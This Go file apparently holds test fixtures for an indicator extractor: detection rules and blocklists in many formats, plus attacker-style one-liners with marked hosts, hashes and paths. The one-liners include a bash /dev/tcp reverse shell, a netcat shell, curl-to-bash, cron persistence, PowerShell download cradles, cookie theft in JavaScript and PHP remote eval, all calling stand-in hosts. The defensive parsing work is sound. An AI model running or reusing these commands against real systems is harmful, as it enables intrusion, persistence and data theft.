package scan

// markedRules are rules of detection in their languages.
var markedRules = []marked{
	{"yara", `rule Lantern_Loader : loader
{
  meta:
    author = "blue team"
    date = "2026-11-02"
    hash = "⟦sha256|{sha256:yara}⟧"
  strings:
    $u = "⟦url|http://lantern.example/gate.php⟧" ascii wide
    $p = "⟦path|C:\\Users\\Public\\lantern.exe=>C:\Users\Public\lantern.exe⟧"
    $h = { 6A 40 68 00 30 00 00 6A 14 8D 91 }
    $m = "⟦domain|c2.lantern.example⟧"
  condition:
    uint16(0) == 0x5A4D and 2 of them
}`},
	{"yara md5 list", "meta:\n  hash1 = \"⟦md5|{md5:y1}⟧\"\n  hash2 = \"⟦md5|{md5:y2}⟧\"\n"},
	{"sigma", `title: Lantern DNS
id: 3f2c1f6e-8a4b-4d0e-9d1c-0c8f7f1a2b3c
status: experimental
logsource:
  category: dns_query
detection:
  selection:
    QueryName|endswith:
      - '.⟦domain|lantern.example⟧'
      - '.⟦domain|lantern-two.example⟧'
  condition: selection
tags:
  - attack.command_and_control
  - ⟦attack|attack.t1071.004=>T1071.004⟧
level: high`},
	{"sigma ip", "detection:\n  sel:\n    DestinationIp:\n      - '⟦ipv4|203.0.113.71⟧'\n      - '⟦ipv4|203.0.113.72⟧'\n    DestinationPort: 4444\n"},
	{"suricata", `alert tls $HOME_NET any -> $EXTERNAL_NET 443 (msg:"LANTERN C2"; tls.sni; content:"⟦domain|sni.lantern.example⟧"; nocase; classtype:trojan-activity; sid:9000001; rev:2;)`},
	{"suricata ip", `drop ip $HOME_NET any -> [⟦ipv4|192.0.2.41⟧,⟦ipv4|192.0.2.42⟧] any (msg:"BAD HOSTS"; sid:9000002; rev:1;)`},
	{"suricata http", `alert http any any -> any any (msg:"BAD"; http.host; content:"⟦domain|files.bad.example⟧"; http.uri; content:"/gate.php"; sid:9000003;)`},
	{"suricata ja3", `alert tls any any -> any any (msg:"ja3"; ja3.hash; content:"⟦ja3|{md5:suri}⟧"; sid:9000004;)`},
	{"snort", `alert tcp any any -> ⟦ipv4|198.51.100.77⟧ 8080 (msg:"beacon"; flow:established; content:"GET /b"; sid:1000009; rev:5;)`},
	{"snort hex", `alert udp any any -> any 53 (content:"|04|⟦domain|tunl|07|example=>tunl.example⟧|00|"; sid:1000010;)`},
	{"kql", "DeviceNetworkEvents\n| where RemoteUrl has_any (\"⟦domain|kql-one.example⟧\", \"⟦domain|kql-two.example⟧\")\n| where RemoteIP == \"⟦ipv4|192.0.2.51⟧\"\n| project Timestamp, DeviceName"},
	{"splunk", `index=proxy (url="⟦url|http://spl.example/a.php⟧" OR dest_ip=⟦ipv4|192.0.2.52⟧ OR dest="⟦domain|spl2.example⟧") | stats count by src_ip`},
	{"elastic", `process.hash.sha256:"⟦sha256|{sha256:el}⟧" or destination.ip:"⟦ipv4|192.0.2.53⟧" or dns.question.name:"⟦domain|el.example⟧"`},
	{"iptables", "iptables -A INPUT -s ⟦ipv4|203.0.113.81⟧ -j DROP\niptables -A OUTPUT -d ⟦cidr|203.0.113.128/27⟧ -j REJECT"},
	{"nft", "add element inet filter bad { ⟦ipv4|192.0.2.54⟧, ⟦cidr|198.51.100.192/26⟧ }"},
	{"hosts file", "0.0.0.0 ⟦domain|ads.bad.example⟧\n0.0.0.0 ⟦domain|trk.bad.example⟧\n127.0.0.1 ⟦domain|c2.bad.example⟧\n"},
	{"rpz", "⟦domain|rpz-one.example⟧ CNAME .\n*.⟦domain|rpz-two.example⟧ CNAME .\n"},
	{"adblock", "||⟦domain|adblock-one.example⟧^\n||⟦domain|adblock-two.example⟧^$important\n"},
	{"squid", "acl bad dstdomain .⟦domain|squid-bad.example⟧\nhttp_access deny bad"},
	{"dnsmasq", "address=/⟦domain|dnsmasq-bad.example⟧/0.0.0.0\nserver=/⟦domain|second-bad.example⟧/"},
	{"zeek", "#fields\tindicator\tindicator_type\tmeta.source\n⟦domain|zeek-bad.example⟧\tIntel::DOMAIN\tteam\n⟦ipv4|192.0.2.55⟧\tIntel::ADDR\tteam\n"},
	{"stix pattern", `"pattern": "[domain-name:value = '⟦domain|stix-bad.example⟧'] OR [ipv4-addr:value = '⟦ipv4|192.0.2.56⟧']"`},
	{"stix hash", `"pattern": "[file:hashes.'SHA-256' = '⟦sha256|{sha256:st}⟧']", "id": "indicator--0f3a7c1e-7f0a-4c6b-9c62-5f6f4d1b9a01"`},
	{"stix bundle", `{"type":"bundle","id":"bundle--11111111-2222-4333-8444-555555555555","objects":[{"type":"url","value":"⟦url|https://stix-url.example/x⟧"},{"type":"ipv6-addr","value":"⟦ipv6|2001:db8:5::1⟧"}]}`},
	{"misp", `{"Event":{"uuid":"6b1b9a1c-3f11-4ab0-8a11-2b4e7d2a9c10","Attribute":[{"type":"ip-dst","value":"⟦ipv4|192.0.2.57⟧"},{"type":"hostname","value":"⟦domain|misp-host.example⟧"},{"type":"md5","value":"⟦md5|{md5:misp}⟧"}]}}`},
	{"openioc", `<Content type="string">⟦domain|openioc.example⟧</Content><Content type="md5">⟦md5|{md5:oi}⟧</Content><Content type="IP">⟦ipv4|192.0.2.58⟧</Content>`},
}

// markedScripts are code of attackers and defenders.
var markedScripts = []marked{
	{"powershell", `$wc = New-Object System.Net.WebClient; $wc.DownloadFile("⟦url|http://ps.example/a.exe⟧", "⟦path|C:\ProgramData\a.exe⟧"); Start-Process $env:TEMP`},
	{"powershell iex", `IEX (New-Object Net.WebClient).DownloadString('⟦url|https://raw.ps-bad.example/s.ps1⟧')`},
	{"powershell joined", `$u = '⟦url|http://pie' + 'ces.exa' + 'mple/b.ps1=>http://pieces.example/b.ps1⟧'`},
	{"powershell socket", `$c = New-Object System.Net.Sockets.TCPClient("⟦ipv4|203.0.113.61⟧",4444);$s=$c.GetStream()`},
	{"bash curl", "curl -fsSL ⟦url|http://203.0.113.62/i.sh⟧ | bash -s -- --quiet"},
	{"bash wget", "cd /tmp || cd /var/run; wget ⟦url|http://sh-bad.example/x86⟧; chmod +x x86; ./x86"},
	{"bash tcp", "bash -i >& /dev/tcp/⟦ipv4|203.0.113.63⟧/9001 0>&1"},
	{"bash cron", "(crontab -l; echo \"*/5 * * * * curl -s ⟦url|http://cron-bad.example/u⟧|sh\") | crontab -"},
	{"netcat", "nc -e /bin/sh ⟦ipv4|198.51.100.64⟧ 4444"},
	{"javascript", `var h = "⟦domain|js-skim.example⟧"; fetch("⟦url|https://js-skim.example/c?d=⟧" + encodeURIComponent(document.cookie));`},
	{"javascript tag", `<script src="⟦url|https://cdn.js-bad.example/lib.js⟧" async></script>`},
	{"javascript class", `console.log(window.location.href); document.body.innerHTML = app.main.render(user.me);`},
	{"php", `<?php $c = file_get_contents("⟦url|http://php-bad.example/cmd.txt⟧"); eval($c); ?>`},
	{"python", "import os, sys\nC2 = '⟦ipv4|192.0.2.65⟧'\nPORT = 8080\nURL = 'http://%s/' % C2\nrequests.get(\"⟦url|http://py-bad.example/task⟧\", timeout=5)\nos.path.join(sys.argv[1])"},
	{"python list", `HOSTS = ["⟦domain|py-one.example⟧", "⟦domain|py-two.example⟧", '⟦ipv4|192.0.2.66⟧']`},
	{"vba", `Set x = CreateObject("MSXML2.XMLHTTP"): x.Open "GET", "⟦url|http://vba-bad.example/m.bin⟧", False`},
	{"batch", `certutil -urlcache -split -f ⟦url|http://bat-bad.example/c.dll⟧ ⟦path|C:\Users\Public\c.dll⟧`},
	{"regsvr", `regsvr32 /s /n /u /i:⟦url|http://sct-bad.example/f.sct⟧ scrobj.dll`},
	{"reg add", `reg add "⟦registry|HKCU\Software\Microsoft\Windows\CurrentVersion\Run⟧" /v Updater /t REG_SZ /d "⟦path|C:\Users\Public\upd.exe⟧" /f`},
	{"schtasks", `schtasks /create /tn "Sync" /tr "⟦path|C:\ProgramData\sync\s.exe⟧" /sc minute /mo 10`},
	{"rundll", `rundll32.exe ⟦path|C:\ProgramData\kernel.dat⟧,#1`},
	{"c define", "#define C2_HOST \"⟦domain|c-bad.example⟧\"\n#define C2_IP \"⟦ipv4|192.0.2.67⟧\"\n#define VERSION \"1.2.3.4\"\n"},
	{"go", "conn, err := net.Dial(\"tcp\", \"⟦domain|go-bad.example⟧:443\")\nif err != nil { return fmt.Errorf(\"x: %w\", err) }"},
	{"java", `URL u = new URL("⟦url|https://java-bad.example/jar⟧"); System.out.println(org.example.Main.class.getName());`},
	{"csharp", `using System.IO; using System.Net.Http; var c = new HttpClient(); await c.GetAsync("⟦url|https://cs-bad.example/api⟧");`},
	{"config json", `{"c2":["⟦domain|cfg-one.example⟧:443","⟦ipv4|203.0.113.68⟧:8443"],"sleep":60000,"ua":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"}`},
	{"config yaml", "c2:\n  hosts:\n    - ⟦domain|yaml-one.example⟧\n    - ⟦ipv4|203.0.113.69⟧\n  port: 443\nversion: 10.4.2.1\n"},
	{"config ini", "[net]\nserver = ⟦domain|ini-bad.example⟧\nbackup = ⟦ipv4|203.0.113.70⟧\nbuild = 6.1.7601.2\n"},
	{"miner", "./xmrig -o ⟦url|stratum+tcp://pool.mine-bad.example:3333⟧ -u worker -p x"},
	{"dockerfile", "FROM alpine:3.20\nRUN wget -q ⟦url|http://docker-bad.example/m⟧ -O ⟦path|/usr/bin/m⟧\n"},
	{"json slash", `{"u":"⟦url|https:\/\/slash.example\/a\/b=>https://slash.example/a/b⟧","p":"⟦path|C:\\Windows\\Temp\\q.exe=>C:\Windows\Temp\q.exe⟧"}`},
	{"base64 stays shut", "powershell -enc aQBlAHgAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQA="},
}
